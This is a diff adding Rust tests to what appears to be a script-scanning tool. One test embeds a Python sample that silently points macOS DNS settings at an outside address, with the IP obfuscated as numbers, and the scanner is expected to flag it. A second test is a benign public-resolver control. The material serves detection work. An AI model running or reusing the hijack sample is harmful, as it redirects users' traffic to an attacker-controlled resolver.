@@ -503,3 +503,36 @@ for rc in sys.argv[1:]:
     let a = run(office);
     assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
 }
+
+/// The resolver set to an outside address spelled as numbers, through a
+/// quiet helper and a default list, sends every name lookup there
+/// (ec76111: LOW).
+#[test]
+fn resolver_set_to_an_outside_address_through_a_helper() {
+    let dns = r#"import subprocess
+PICKS = [".".join(map(str, (45, 95, 11, 7)))]
+def quiet(argv):
+    return subprocess.run(argv, capture_output=True)
+def apply(service, servers=PICKS):
+    quiet(["networksetup", "-setdnsservers", service, "%s" % servers[0]])
+for svc in ("Wi-Fi", "Ethernet"):
+    apply(svc)
+"#;
+    let a = run(dns);
+    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same helper setting a well-known public resolver, or reading the
+/// servers, hijacks nothing.
+#[test]
+fn resolver_set_to_a_public_one_is_no_hijack() {
+    let dns = r#"import subprocess
+def quiet(argv):
+    return subprocess.run(argv, capture_output=True)
+quiet(["networksetup", "-getdnsservers", "Wi-Fi"])
+quiet(["networksetup", "-setdnsservers", "Wi-Fi", "1.1.1.1", "9.9.9.9"])
+"#;
+    let a = run(dns);
+    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
+}
